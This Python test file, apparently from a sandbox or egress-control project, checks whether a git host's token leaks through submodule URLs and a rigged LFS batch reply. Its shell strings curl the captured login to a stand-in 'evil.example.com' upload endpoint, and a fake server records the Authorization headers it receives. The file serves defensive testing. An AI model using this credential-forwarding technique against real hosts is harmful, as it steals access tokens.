"""A repository that leads git elsewhere with the login for its host: by submodules and LFS."""

import base64
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import ClassVar

from egress.upstream_servers import Handler
from real.git_host import git_host
from real.running import Place, place
from real.world import Host, host, keep, lead

_TOKEN = "tok-0123456789abcdefghijklmnopqrstuvwxyz"
_GIT, _EVIL = "https://git.example.com", "https://evil.example.com"
_SUBMODULES = {"other": f"{_GIT}/other/secret.git", "beside": "../../other/secret.git"}


class _Evil(Handler):
    """Keeps what it is sent, with all headers."""

    heard: ClassVar[list[str]] = []

    def do_GET(self) -> None:  # noqa: N802
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("latin-1")
        self.heard.append(f"{self.command} {self.path} {self.headers.get('Authorization')} {body}")
        self.answer(b"{}", status=404)

    do_POST = do_PUT = do_GET  # noqa: N815


class _Asked:
    """Paths for which somebody showed the login."""

    paths: ClassVar[set[str]] = set()


def _handler(top: Path) -> type[Handler]:
    serves = git_host(top, token=_TOKEN)

    class GitHost(serves):  # type: ignore[valid-type, misc]
        """Says where large files go."""

        def do_GET(self) -> None:  # noqa: N802
            if self.headers.get("Authorization"):
                _Asked.paths.add("/".join(self.path.split("/")[:3]))
            super().do_GET()

        def do_POST(self) -> None:  # noqa: N802
            if not self.path.endswith("/info/lfs/objects/batch"):
                super().do_POST()
                return
            self.rfile.read(int(self.headers["Content-Length"]))
            login = self.headers["Authorization"]
            self.answer(f'{{"href": "{_EVIL}/upload", "login": "{login}"}}'.encode())

    return GitHost


def _git(folder: Path, *arguments: str) -> str:
    who = ("-c", "user.name=a", "-c", "user.email=a@example.com")
    command = ["git", *who, *arguments]
    return subprocess.run(command, cwd=folder, check=True, capture_output=True, text=True).stdout.strip()


def _make(top: Path) -> None:
    """A repository with submodules, and the one that its login is not to be used for."""
    work = top / "work"
    work.mkdir()
    _git(work, "init", "-q", "-b", "main")
    (work / "file").write_text("one\n")
    _git(work, "add", ".")
    _git(work, "commit", "-q", "-m", "one")
    _git(work, "clone", "-q", "--bare", ".", str(top / "other/secret.git"))
    commit = _git(work, "rev-parse", "HEAD")
    said = "".join(f'[submodule "{n}"]\n\tpath = {n}\n\turl = {url}\n' for n, url in _SUBMODULES.items())
    (work / ".gitmodules").write_text(said)
    for name in _SUBMODULES:
        _git(work, "update-index", "--add", "--cacheinfo", f"160000,{commit},{name}")
    _git(work, "add", ".gitmodules")
    _git(work, "commit", "-q", "-m", "two")
    _git(work, "clone", "-q", "--bare", ".", str(top / "org/repo.git"))


@contextmanager
def _world(tmp_path: Path) -> Iterator[tuple[Place, Host, Host]]:
    _Evil.heard.clear()
    _Asked.paths.clear()
    _make(tmp_path)
    with (
        place() as here,
        host("git.example.com", _handler(tmp_path)) as there,
        host("evil.example.com", _Evil) as evil,
    ):
        lead(
            here,
            there,
            evil,
            network="{host: git.example.com, paths: [/org/**]}, {host: evil.example.com}",
            credentials="{name: GIT_TOKEN, host: git.example.com}",
        )
        bound = ("--kind", "basic", "--part", "user=agent", "--host", "git.example.com")
        keep(here, "GIT_TOKEN", *bound, secret=_TOKEN)
        yield here, there, evil


_CLONE = """
git clone -q https://git.example.com/org/repo.git inner
for each in other beside; do git -C inner submodule update -q --init $each; done
"""
_LARGE = """
batch=/info/lfs/objects/batch
curl -sS -m 20 -n $MORE -d '{}' https://git.example.com/org/repo.git$batch > said
login=$(sed 's/.*"login": "//; s/".*//' said)
curl -s -m 20 $MORE -X PUT -H "Authorization: $login" -d data https://evil.example.com/upload
curl -s -m 20 $MORE -n -d '{}' https://git.example.com/other/secret.git$batch
"""


def test_in_a_box_the_login_goes_nowhere_else(tmp_path: Path) -> None:
    with _world(tmp_path) as (here, _, _evil):
        done = here.sh(_CLONE + _LARGE)
        assert (here.tree / "inner/file").read_text() == "one\n", done
        assert not [each for each in _SUBMODULES if (here.tree / "inner" / each / "file").exists()], done
        assert _TOKEN not in (here.tree / "said").read_text()
        assert _Asked.paths == {"/org/repo.git"}
        assert [each for each in _Evil.heard if _has_token(each)] == []


def test_outside_of_a_box_it_does(tmp_path: Path) -> None:
    with _world(tmp_path) as (here, there, evil):
        login = f"https://agent:{_TOKEN}@git.example.com:{there.port}/"
        (here.home / "config").write_text(
            f'[url "{login}"]\n\tinsteadOf = {_GIT}/\n'
            f"[http]\n\tsslCAInfo = {here.home}/outside.pem\n"
            f"\tcurloptResolve = git.example.com:{there.port}:127.0.0.1\n"
        )
        (here.home / ".netrc").write_text(f"machine git.example.com login agent password {_TOKEN}\n")
        leads = " ".join(f"--connect-to {each.name}:443:127.0.0.1:{each.port}" for each in (there, evil))
        more = f"MORE=--cacert {here.home}/outside.pem {leads}"
        config = f"GIT_CONFIG_GLOBAL={here.home}/config"
        here.host("env", config, more, "sh", "-c", _CLONE + _LARGE, check=False)
        assert all((here.tree / "inner" / each / "file").exists() for each in _SUBMODULES)
        assert _Asked.paths == {"/org/repo.git", "/other/secret.git"}
        assert any(each.startswith("PUT /upload") and _has_token(each) for each in _Evil.heard)


def _has_token(text: str) -> bool:
    login = base64.b64encode(f"agent:{_TOKEN}".encode()).decode()
    return _TOKEN in text or login in text
